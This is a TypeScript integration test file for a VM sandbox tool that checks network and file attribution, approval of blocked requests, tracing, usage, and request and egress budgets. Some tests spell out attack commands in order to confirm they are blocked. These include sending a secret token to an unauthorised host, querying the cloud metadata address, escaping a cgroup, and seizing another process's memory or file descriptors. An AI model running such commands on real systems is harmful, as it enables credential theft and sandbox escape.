// docs/OBSERVE.md end to end, against HTTP servers this test runs on 127.0.0.1: attribution
// of network and file events to execs (concurrent execs, a daemonised child, a process outside
// every exec), live approval (once, sandbox, deny, timeout, a pending request decided through
// the API, never-approvable requests), spans, usage; audit mode and suggestions with the
// request budget; a detached sandbox decided from the CLI; the egress budget stopping `run`.
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { createServer as createH2cServer } from "node:http2";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { context, trace } from "@opentelemetry/api";
import {
  ErrNotFound,
  Sandbox,
  suggestAllowlist,
  type ApprovalDecision,
  type BlockedRequest,
  type SandboxEvent,
  type VmSandbox,
} from "../../src/index.js";
import { Attributor } from "../../src/observe/attributor.js";
import { isolateDataDir, scratchDir } from "../helpers/vm.js";
import { InterceptServers, makeTestCa } from "../helpers/intercept-servers.js";
import { killAllSupervisors, startDetached, waitUntil, wheellock } from "../helpers/lifecycle.js";
import { parentOf, recordSpans } from "../helpers/otel.js";

const dataDir = isolateDataDir();
const scratch = scratchDir();
const spans = recordSpans();
const NAMES = [
  "api.test",
  "other.test",
  "late.test",
  "slow.test",
  "a.cdn.test",
  "b.cdn.test",
  "leak.test",
];
const servers = new InterceptServers();
const resolveOverrides = Object.fromEntries(NAMES.map((n) => [n, "127.0.0.1"]));
const SECRET = "real-secret-0b5e7a";

/** Paths an HTTP/2 request arrived on at the h2c upstream (`h2url`), in order. */
const h2Seen: string[] = [];
const h2c = createH2cServer((req, res) => {
  h2Seen.push(req.url);
  res.end(`ok h2 ${req.url}\n`);
});
let h2Port = 0;

before(async () => {
  await servers.start(makeTestCa(scratch, ["api.test"]));
  await new Promise<void>((r) => h2c.listen(0, "127.0.0.1", () => r()));
  h2Port = (h2c.address() as AddressInfo).port;
});
after(() => {
  killAllSupervisors(dataDir);
  servers.close();
  h2c.close();
});

const url = (host: string, path: string) => `http://${host}:${servers.httpPort}${path}`;
const h2url = (host: string, path: string) => `http://${host}:${h2Port}${path}`;
/**
 * HTTP/2 (h2c, prior knowledge) to each path, a connection each: Debian 12's curl (7.88) fails
 * a second request on one h2c connection ("Error in the HTTP2 framing layer") even against
 * Node's own h2c server, with no proxy between. A status line each.
 */
const h2curl = (host: string, paths: string[]) =>
  paths.map((p) => curl(h2url(host, p), "--http2-prior-knowledge")).join("; ");
/** curl printing only the status code; -m bounds every call. */
const curl = (target: string, extra = "") =>
  `curl -sS -m 60 -o /dev/null -w '%{http_code}\\n' ${extra} ${target}`;
/** The same without quotes, for inside `sh -c '...'` (prints the code without a newline). */
const bareCurl = (target: string) => `curl -sS -m 60 -o /dev/null -w %{http_code} ${target}`;

async function until(what: string, cond: () => boolean, timeoutMs = 60_000): Promise<void> {
  await waitUntil(what, cond, timeoutMs);
}

// WHEELLOCK_TEST_ATTRIBUTION_BY_FORK=1: the SDK group's execs join their cgroups after fork()
// (the path of guest kernels before 5.7) instead of starting in them through clone3.
const BY_FORK = process.env.WHEELLOCK_TEST_ATTRIBUTION_BY_FORK === "1";

// Bounds per group: a hung VM fails its group instead of the whole CI job.
const GROUP_TIMEOUT_MS = 10 * 60_000;

describe(
  "an SDK sandbox: attribution, approval, spans, usage",
  { timeout: GROUP_TIMEOUT_MS },
  () => {
    let sb: VmSandbox;
    const events: SandboxEvent[] = [];
    const network = () => events.flatMap((e) => (e.type === "network" ? [e.network] : []));
    const files = () => events.flatMap((e) => (e.type === "file" ? [e.file] : []));
    let decide: (r: BlockedRequest) => ApprovalDecision | Promise<ApprovalDecision> = () => "deny";
    const asked: BlockedRequest[] = [];

    before(async () => {
      sb = await Sandbox.create(
        {
          memoryMb: 384,
          timeoutSeconds: 0,
          // A test below leaves every exec's cgroup, as an image's daemon would never have joined one.
          privileged: true,
          allowPrivateHosts: true,
          resolveOverrides,
          allowedHosts: ["api.test"],
          mounts: { "/work": { type: "memory" } },
          secrets: {
            TOKEN: { value: SECRET, hosts: [`api.test:${servers.httpPort}`], allowHttp: true },
          },
          approval: { timeoutMs: 4000, maxPending: 4 },
          tracePropagation: true,
          onBlockedRequest: (r) => {
            asked.push(r);
            return decide(r);
          },
        },
        BY_FORK ? { attributionByFork: true } : {},
      );
      void (async () => {
        for await (const e of sb.events()) events.push(e);
      })();
    });
    after(() => sb?.close());

    test("two concurrent execs: each request and file names its exec, a daemonised child too", async () => {
      const script = (n: number) =>
        `${curl(url("api.test", `/attr-${n}-main`))}; echo ${n} > /work/main-${n}; ` +
        // A double fork into a session of its own: the daemon is PID 1's child when it runs.
        `(setsid sh -c 'sleep 2; ${bareCurl(url("api.test", `/attr-${n}-daemon`))} >/dev/null; ` +
        `echo d > /work/daemon-${n}' </dev/null >/dev/null 2>&1 &); exit 0`;
      const [one, two] = await Promise.all([sb.exec(script(1)), sb.exec(script(2))]);
      assert.equal(one.stdout.trim(), "200", one.stderr);
      assert.equal(two.stdout.trim(), "200", two.stderr);
      assert.notEqual(one.execId, two.execId);
      await until("the daemons' requests and files", () =>
        [1, 2].every(
          (n) =>
            network().some((e) => e.url.endsWith(`/attr-${n}-daemon`)) &&
            files().some((f) => f.path === `/work/daemon-${n}` && f.op === "write"),
        ),
      );
      for (const [n, r] of [
        [1, one],
        [2, two],
      ] as const) {
        const mine = network().filter((e) => e.url.includes(`/attr-${n}-`));
        assert.equal(mine.length, 2);
        for (const e of mine) assert.equal(e.attribution?.execId, r.execId, e.url);
        const daemon = mine.find((e) => e.url.endsWith("-daemon"));
        assert.equal(daemon?.attribution?.command?.[0], "curl");
        assert.ok(daemon?.attribution?.pid !== undefined);
        const touched = files().filter(
          (f) => /^\/work\/(main|daemon)-/.test(f.path) && f.path.endsWith(`-${n}`),
        );
        assert.ok(touched.length >= 4, JSON.stringify(touched));
        for (const f of touched) assert.equal(f.attribution?.execId, r.execId, `${f.op} ${f.path}`);
      }
      const execEvents = events.flatMap((e) => (e.type === "exec" ? [e.exec] : []));
      assert.ok(execEvents.some((e) => e.execId === one.execId && e.pid !== undefined));
    });

    test("short-lived processes: each connection names its exec, one that exits right after sending too", async () => {
      // New processes (no recent owner to ask first), and one that sends its request and
      // exits without waiting: the guest is asked at the SYN, before either could be gone.
      const sent = `printf "GET /short-sent HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n" >&3`;
      const r = await sb.exec(
        `for i in 1 2 3; do ${bareCurl(url("api.test", "/short-$i"))} >/dev/null; done; ` +
          `bash -c 'exec 3<>/dev/tcp/api.test/${servers.httpPort}; ${sent}'`,
      );
      assert.equal(r.exitCode, 0, r.stderr);
      const paths = ["/short-1", "/short-2", "/short-3", "/short-sent"];
      await until("their events", () =>
        paths.every((p) => network().some((e) => e.url.endsWith(p))),
      );
      for (const p of paths) {
        const e = network().find((x) => x.url.endsWith(p));
        assert.equal(e?.attribution?.execId, r.execId, p);
      }
    });

    test("one process's new connections are attributed from their SYN stamps: one question in all", async () => {
      // The agent's BPF programs stamp each SYN with the connecting pid and cgroup
      // (docs/OBSERVE.md "SYN stamp"): after the first answer about that pid the host asks
      // nothing per connection. Counted where every question to the agent starts.
      const questions: string[] = [];
      const proto = Attributor.prototype as unknown as {
        question: (this: Attributor, key: { kind: string; key: number }) => unknown;
      };
      const ask = proto.question;
      proto.question = function (key) {
        questions.push(`${key.kind}:${key.key}`);
        return ask.call(this, key);
      };
      try {
        const paths = [1, 2, 3, 4, 5].map((i) => `/stamped-${i}`);
        const targets = paths.map((p) => `-o /dev/null ${url("api.test", p)}`).join(" ");
        const r = await sb.exec(`curl -sS -m 60 -H 'Connection: close' ${targets}`);
        assert.equal(r.exitCode, 0, r.stderr);
        await until("their events", () =>
          paths.every((p) => network().some((e) => e.url.endsWith(p))),
        );
        const pids = new Set<number | undefined>();
        for (const p of paths) {
          const e = network().find((x) => x.url.endsWith(p));
          assert.equal(e?.attribution?.execId, r.execId, p);
          assert.match(e?.attribution?.command?.join(" ") ?? "", /^curl /, p);
          pids.add(e?.attribution?.pid);
        }
        assert.equal(pids.size, 1, "one curl made them all");
        assert.deepEqual(questions, [`pid:${[...pids][0]}`]);
      } finally {
        proto.question = ask;
      }
    });

    test("HTTP/2: each request on a connection names its exec; approval is asked per request", async () => {
      const paths = (n: number) => [`/h2-${n}-a`, `/h2-${n}-b`, `/h2-${n}-c`];
      const [one, two] = await Promise.all([
        sb.exec(h2curl("api.test", paths(1))),
        sb.exec(h2curl("api.test", paths(2))),
      ]);
      assert.equal(one.stdout, "200\n200\n200\n", one.stderr);
      assert.equal(two.stdout, "200\n200\n200\n", two.stderr);
      for (const [n, r] of [
        [1, one],
        [2, two],
      ] as const) {
        for (const p of paths(n)) {
          assert.ok(h2Seen.includes(p), `${p} reached the upstream over HTTP/2`);
          let e: ReturnType<typeof network>[number] | undefined;
          await until(
            `the event of ${p}`,
            () => (e = network().find((x) => x.url.endsWith(p))) !== undefined,
          );
          assert.equal(e?.attribution?.execId, r.execId, p);
          assert.equal(e?.status, 200);
        }
      }
      // Two requests to a host outside the allowlist: each is put to the approver (a decision
      // for one request covers that request only).
      decide = () => "once";
      asked.length = 0;
      const approved = await sb.exec(h2curl("other.test", ["/h2-once-1", "/h2-once-2"]));
      assert.equal(approved.stdout, "200\n200\n", approved.stderr);
      assert.deepEqual(
        asked.map((a) => [a.url.replace(/^.*\//, "/"), a.attribution?.execId]),
        [
          ["/h2-once-1", approved.execId],
          ["/h2-once-2", approved.execId],
        ],
      );
      decide = () => "deny";
      const denied = await sb.exec(h2curl("other.test", ["/h2-denied"]));
      assert.equal(denied.stdout, "403\n");
      assert.ok(!h2Seen.includes("/h2-denied"));
    });

    test("a process outside every exec's cgroup is attributed to no exec", async () => {
      const r = await sb.exec(
        "mkdir -p /tmp/cg && mount -t cgroup2 none /tmp/cg && " +
          `sh -c 'echo $$ > /tmp/cg/cgroup.procs && ${bareCurl(url("api.test", "/no-exec"))} && echo x > /work/no-exec'`,
      );
      assert.equal(r.stdout.trim(), "200", r.stderr);
      await until("its events", () => files().some((f) => f.path === "/work/no-exec"));
      const request = network().find((e) => e.url.endsWith("/no-exec"));
      assert.equal(request?.attribution?.execId, null);
      assert.ok(request?.attribution?.pid !== undefined);
      for (const f of files().filter((f) => f.path === "/work/no-exec"))
        assert.equal(f.attribution?.execId, null, f.op);
    });

    test("approval once: that request goes through, the next one is asked again", async () => {
      decide = () => "once";
      asked.length = 0;
      const r = await sb.exec(
        `${curl(url("other.test", "/once-1"))}; ${curl(url("other.test", "/once-2"))}`,
      );
      assert.equal(r.stdout, "200\n200\n");
      assert.equal(asked.length, 2);
      assert.equal(asked[0]?.host, "other.test");
      assert.equal(asked[0]?.attribution?.execId, r.execId);
      assert.ok(!(await sb.allowedHosts()).hosts.some((h) => h.startsWith("other.test")));
      const e = network().find((n) => n.url.endsWith("/once-1"));
      assert.equal(e?.approval?.decision, "once");
      assert.ok(events.some((e) => e.type === "approval" && e.approval.decision === "once"));
    });

    test("approval for the sandbox joins the allowlist: asked once only", async () => {
      decide = () => "sandbox";
      asked.length = 0;
      const r = await sb.exec(
        `${curl(url("late.test", "/s-1"))}; ${curl(url("late.test", "/s-2"))}`,
      );
      assert.equal(r.stdout, "200\n200\n");
      assert.equal(asked.length, 1);
      assert.ok((await sb.allowedHosts()).hosts.includes(`late.test:${servers.httpPort}`));
    });

    test("deny, and a timeout, refuse with 403", async () => {
      decide = () => "deny";
      assert.equal((await sb.exec(curl(url("other.test", "/denied")))).stdout, "403\n");
      decide = () => new Promise<ApprovalDecision>(() => undefined);
      const started = Date.now();
      assert.equal((await sb.exec(curl(url("other.test", "/timed-out")))).stdout, "403\n");
      assert.ok(Date.now() - started >= 3500, "held for the 4 s approval timeout");
      const timedOut = network().find((n) => n.url.endsWith("/timed-out"));
      assert.equal(timedOut?.approval?.decision, "timeout");
      assert.deepEqual(servers.requestsFor("/denied"), []);
      assert.deepEqual(servers.requestsFor("/timed-out"), []);
    });

    test("a held request is listed and decided through the API", async () => {
      decide = () => new Promise<ApprovalDecision>(() => undefined);
      const proc = sb.spawn(["sh", "-c", curl(url("slow.test", "/pending"))]);
      let held: BlockedRequest[] = [];
      for (let i = 0; i < 300 && held.length === 0; i++) {
        held = await sb.pendingRequests();
        if (held.length === 0) await new Promise((r) => setTimeout(r, 100));
      }
      assert.equal(held[0]?.host, "slow.test");
      await sb.decideRequest(held[0]!.requestId, "once");
      await assert.rejects(sb.decideRequest(held[0]!.requestId, "deny"), ErrNotFound);
      let out = "";
      proc.stdout.on("data", (c: Buffer) => (out += c.toString()));
      await proc.wait();
      assert.equal(out, "200\n");
    });

    test("private and metadata addresses are never put to the approver", async () => {
      decide = () => "sandbox";
      asked.length = 0;
      const r = await sb.exec(curl("http://169.254.169.254/latest/meta-data/"));
      assert.equal(r.stdout, "403\n");
      assert.equal(asked.length, 0);
    });

    test("a secret's placeholder toward a host it is not bound to is never put to the approver", async () => {
      decide = () => "sandbox";
      asked.length = 0;
      const r = await sb.exec(curl(url("leak.test", "/leak"), '-H "Authorization: Bearer $TOKEN"'));
      assert.equal(r.stdout, "403\n");
      assert.deepEqual(asked, [], "nobody is asked about a secret leak");
      assert.ok(!(await sb.allowedHosts()).hosts.some((h) => h.startsWith("leak.test")));
      await until("its event", () => network().some((n) => n.url.endsWith("/leak")));
      const e = network().find((n) => n.url.endsWith("/leak"));
      assert.equal(e?.code, "secret_leak");
      assert.equal(e?.approval, undefined);
      assert.deepEqual(servers.requestsFor("/leak"), []);
    });

    test("spans: the exec under the caller's span, its request and file operations under it", async () => {
      spans.reset();
      const app = trace.getTracer("test-app").startSpan("agent.turn");
      const r = await context.with(trace.setSpan(context.active(), app), () =>
        sb.exec(`${curl(url("api.test", "/traced"))}; echo t > /work/traced`),
      );
      app.end();
      assert.equal(r.stdout, "200\n");
      await until("the request span", () => spans.byName("wheellock.request").length > 0);
      const exec = spans
        .byName("wheellock.exec")
        .find((s) => s.attributes["wheellock.exec.id"] === r.execId);
      assert.equal(exec && parentOf(exec), app.spanContext().spanId);
      const request = spans.byName("wheellock.request")[0]!;
      assert.equal(parentOf(request), exec!.spanContext().spanId);
      assert.equal(request.attributes["server.address"], "api.test");
      assert.equal(request.attributes["http.response.status_code"], 200);
      // The write's totals come with the guest's release of its handle, maybe after the exit:
      // then in a batch of their own, still under the exec.
      const written = () =>
        spans
          .byName("wheellock.files")
          .filter((s) => parentOf(s) === exec!.spanContext().spanId)
          .reduce((n, s) => n + Number(s.attributes["wheellock.files.bytes_written"] ?? 0), 0);
      await until("the exec's file batches with the write", () => written() > 0);
      // tracePropagation: the upstream sees the request span as its parent, in the app's trace.
      const seen = servers.requestsFor("/traced")[0]?.headers.traceparent;
      const { traceId } = app.spanContext();
      assert.equal(seen, `00-${traceId}-${request.spanContext().spanId}-01`);
    });

    test("usage: CPU, memory, disk, traffic per host and per secret, execs", async () => {
      const r = await sb.exec(
        `${curl(url("api.test", "/with-secret"), '-H "Authorization: Bearer $TOKEN"')}; ` +
          "dd if=/dev/zero of=/root/blob bs=64k count=16 2>/dev/null; sync",
      );
      assert.equal(r.stdout, "200\n");
      const u = await sb.usage();
      assert.ok(u.cpuSeconds > 0);
      assert.ok(u.peakMemoryBytes > 64 * 1024 * 1024);
      assert.ok(u.diskWrittenBytes >= 1024 * 1024, `disk ${u.diskWrittenBytes}`);
      assert.ok(u.mountWrittenBytes > 0);
      assert.ok(u.network.bytes > 0);
      assert.ok((u.network.byHost["api.test"]?.requests ?? 0) >= 5);
      assert.equal(u.network.bySecret.TOKEN?.requests, 1);
      assert.ok(u.execs.count >= 9 && u.execs.maxDurationMs > 0);
    });
  },
);

describe("audit mode, suggestions and the request budget", { timeout: GROUP_TIMEOUT_MS }, () => {
  let sb: VmSandbox;
  const events: SandboxEvent[] = [];

  before(async () => {
    sb = await Sandbox.create({
      memoryMb: 256,
      timeoutSeconds: 0,
      allowPrivateHosts: true,
      resolveOverrides,
      allowedHosts: ["api.test"],
      networkAudit: true,
      maxRequests: 5,
    });
    void (async () => {
      for await (const e of sb.events()) events.push(e);
    })();
  });
  after(() => sb?.close());

  test("everything goes through, the events say what the allowlist would have refused", async () => {
    const hosts = ["api.test", "other.test", "a.cdn.test", "b.cdn.test"];
    const r = await sb.exec(hosts.map((h) => curl(url(h, "/audit"))).join("; "));
    assert.equal(r.stdout, "200\n200\n200\n200\n");
    const net = events.flatMap((e) => (e.type === "network" ? [e.network] : []));
    assert.equal(net.find((e) => e.host === "api.test")?.audit, undefined);
    for (const h of hosts.slice(1))
      assert.equal(net.find((e) => e.host === h)?.audit?.code, "host_not_allowed", h);
    const port = servers.httpPort;
    const expected = [`*.cdn.test:${port}`, `api.test:${port}`, `other.test:${port}`];
    assert.deepEqual(suggestAllowlist(events).allowHosts, expected);
    // No tracePropagation here: no traceparent upstream, though spans are recorded.
    const audited = servers.requestsFor("/audit");
    assert.equal(audited.length, hosts.length);
    assert.ok(audited.every((r) => r.headers.traceparent === undefined));
    const file = join(scratch, "audit-events.jsonl");
    writeFileSync(file, events.map((e) => JSON.stringify(e)).join("\n"));
    const cli = await wheellock(["policy", "suggest", "--events", file]);
    assert.equal(cli.code, 0, cli.stderr);
    assert.equal(cli.stdout, `${expected.join(",")}\n`);
  });

  test("past maxRequests requests are refused (403 budget_exceeded); the sandbox keeps running", async () => {
    const r = await sb.exec(
      `${curl(url("api.test", "/fifth"))}; ${curl(url("api.test", "/sixth"))}`,
    );
    assert.equal(r.stdout, "200\n403\n");
    assert.deepEqual(servers.requestsFor("/sixth"), []);
    assert.equal((await sb.exec("echo alive")).stdout, "alive\n");
    // HTTP/2 requests draw on the same budget and are refused one by one.
    const h2 = await sb.exec(h2curl("api.test", ["/h2-over-1", "/h2-over-2"]));
    assert.equal(h2.stdout, "403\n403\n", h2.stderr);
    assert.ok(!h2Seen.some((p) => p.startsWith("/h2-over")));
    await until("their events", () =>
      ["/h2-over-1", "/h2-over-2"].every((p) =>
        events.some(
          (e) =>
            e.type === "network" &&
            e.network.url.endsWith(p) &&
            e.network.code === "budget_exceeded" &&
            e.network.attribution?.execId === h2.execId,
        ),
      ),
    );
  });

  test("a command without privileges cannot move itself out of its exec's cgroup", async () => {
    // The attack: mount cgroup2, or reach the agent's detached hierarchy through its fds,
    // and join another cgroup; then make a request (refused by the budget, still reported).
    const r = await sb.exec(
      "mkdir -p /tmp/cg; mount -t cgroup2 none /tmp/cg 2>/dev/null && echo mounted; " +
        'for d in /proc/1/fd/*; do [ -e "$d/cgroup.procs" ] && echo $$ > "$d/cgroup.procs" && echo moved; done 2>/dev/null; ' +
        curl(url("api.test", "/escape")),
    );
    assert.equal(r.stdout, "403\n", r.stderr);
    let e: (typeof events)[number] | undefined;
    await until("its event", () => {
      e = events.find((x) => x.type === "network" && x.network.url.endsWith("/escape"));
      return e !== undefined;
    });
    assert.equal(e?.type === "network" ? e.network.attribution?.execId : undefined, r.execId);
  });

  test("a command cannot reach into another exec's process (memory, fds); into its own child it can", async () => {
    // The attack (review18 R4): take a connection or inject code into another exec's process,
    // so that requests go out under that exec's attribution. Same user, same capabilities:
    // only Yama's relational scope stands in the way.
    const victim = sb.spawn(["sh", "-c", "exec sleep 60"]);
    try {
      const pid = await victim.pid;
      const reach = (target: string, after = "") =>
        `perl -e 'open(M, "<", "/proc/$ARGV[0]/mem") or print "mem: $!\n"; ` +
        `my $p = syscall(434, $ARGV[0] + 0, 0); my $fd = syscall(438, $p, 1, 0); ` +
        `print $fd >= 0 ? "fd taken\n" : "fd: $!\n"; ${after}' ${target}`;
      const other = await sb.exec(reach(String(pid)));
      assert.match(
        other.stdout,
        /^mem: (Permission denied|Operation not permitted)\nfd: Operation not permitted\n$/,
      );
      // The same reach over its own child works (the shell becomes perl, sleep's parent):
      // the refusal above is the scope, not perl.
      const own = await sb.exec(`sleep 30 & exec ${reach("$!", "kill 9, $ARGV[0];")}`);
      assert.equal(own.stdout, "fd taken\n", own.stderr);
    } finally {
      victim.kill("SIGKILL");
    }
  });
});

describe(
  "a detached sandbox: held requests decided from the CLI",
  { timeout: GROUP_TIMEOUT_MS },
  () => {
    test("pending, approve --sandbox (recorded), deny; inspect shows usage", async () => {
      const id = await startDetached([
        "--deny-all-hosts",
        "--approve",
        "--approve-timeout",
        "120",
        "--allow-private-host",
        ...NAMES.flatMap((n) => ["--resolve", `${n}:127.0.0.1`]),
      ]);
      try {
        const held = async (): Promise<{ requestId: number; host: string; address?: string }[]> => {
          const r = await wheellock(["allow-list", "pending", id, "--json"]);
          assert.equal(r.code, 0, r.stderr);
          return JSON.parse(r.stdout) as { requestId: number; host: string; address?: string }[];
        };
        const approved = wheellock([
          "exec",
          id,
          "--",
          "sh",
          "-c",
          curl(url("other.test", "/cli-approved")),
        ]);
        let list: { requestId: number; host: string; address?: string }[] = [];
        for (let i = 0; i < 120 && list.length === 0; i++) {
          list = await held();
          if (list.length === 0) await new Promise((r) => setTimeout(r, 500));
        }
        assert.equal(list[0]?.host, "other.test");
        assert.equal(list[0]?.address, "127.0.0.1", "--resolve's");
        const text = await wheellock(["allow-list", "pending", id]);
        assert.match(text.stdout, new RegExp(`${list[0]!.requestId}\\s+GET\\s+http://other.test`));
        const ok = await wheellock([
          "allow-list",
          "approve",
          id,
          String(list[0]!.requestId),
          "--sandbox",
        ]);
        assert.equal(ok.code, 0, ok.stderr);
        assert.match(ok.stdout, /Approved for the sandbox/);
        assert.equal((await approved).stdout, "200\n");
        const record = JSON.parse((await wheellock(["inspect", id])).stdout) as {
          config: { network: { allowedHosts: string[]; approvedHosts?: string[] } };
          usage?: { execs: { count: number } };
        };
        assert.deepEqual(record.config.network.allowedHosts, [`other.test:${servers.httpPort}`]);
        // The entry keeps its mark in the record: it never lets the name reach link-local.
        assert.deepEqual(record.config.network.approvedHosts, [`other.test:${servers.httpPort}`]);
        assert.ok((record.usage?.execs.count ?? 0) >= 1, "inspect asks a running sandbox");

        const denied = wheellock([
          "exec",
          id,
          "--",
          "sh",
          "-c",
          curl(url("late.test", "/cli-denied")),
        ]);
        list = [];
        for (let i = 0; i < 120 && list.length === 0; i++) {
          list = await held();
          if (list.length === 0) await new Promise((r) => setTimeout(r, 500));
        }
        const no = await wheellock(["allow-list", "deny", id, String(list[0]!.requestId)]);
        assert.equal(no.code, 0, no.stderr);
        assert.equal((await denied).stdout, "403\n");
        const again = await wheellock(["allow-list", "deny", id, String(list[0]!.requestId)]);
        assert.equal(again.code, 1);
        assert.match(again.stderr, /^wheellock: request \d+ is not waiting for approval\n$/);
      } finally {
        await wheellock(["kill", id]);
      }
      const stopped = JSON.parse((await wheellock(["inspect", id])).stdout) as {
        usage?: { execs: { count: number } };
      };
      assert.ok((stopped.usage?.execs.count ?? 0) >= 2, "the record keeps the final usage");
    });
  },
);

/** A 20 MB download past a 200,000-byte egress budget, then time for the stop to land. */
const overBudgetDownload = () =>
  `curl -sS -m 60 -o /dev/null ${url("api.test", "/big?size=20000000")}; sleep 30`;
/** The one line a CLI prints when that budget stops the sandbox under it. */
const EGRESS_BUDGET_STOP =
  /^wheellock: sandbox vm-[0-9a-f]{8} stopped: its network flows moved more than 200000 bytes \(maxEgressBytes\)\n$/;

test(
  "run: the egress budget stops the sandbox with its own exit status and one line",
  { timeout: 5 * 60_000 },
  async () => {
    const r = await wheellock([
      "run",
      "--memory",
      "256",
      "--allow-private-host",
      "--resolve",
      `api.test:127.0.0.1`,
      "--max-egress-bytes",
      "200000",
      "--",
      "sh",
      "-c",
      overBudgetDownload(),
    ]);
    assert.equal(r.code, 122, r.stderr);
    assert.match(r.stderr, EGRESS_BUDGET_STOP);
  },
);

test(
  "exec: a budget that stops a detached sandbox under the command exits as run does (122, one line)",
  { timeout: 5 * 60_000 },
  async () => {
    const id = await startDetached([
      "--allow-private-host",
      "--resolve",
      `api.test:127.0.0.1`,
      "--allow-host",
      "api.test",
      "--max-egress-bytes",
      "200000",
    ]);
    try {
      const r = await wheellock(["exec", id, "--", "sh", "-c", overBudgetDownload()]);
      assert.equal(r.code, 122, r.stderr);
      assert.match(r.stderr, EGRESS_BUDGET_STOP);
    } finally {
      await wheellock(["kill", id]);
    }
  },
);
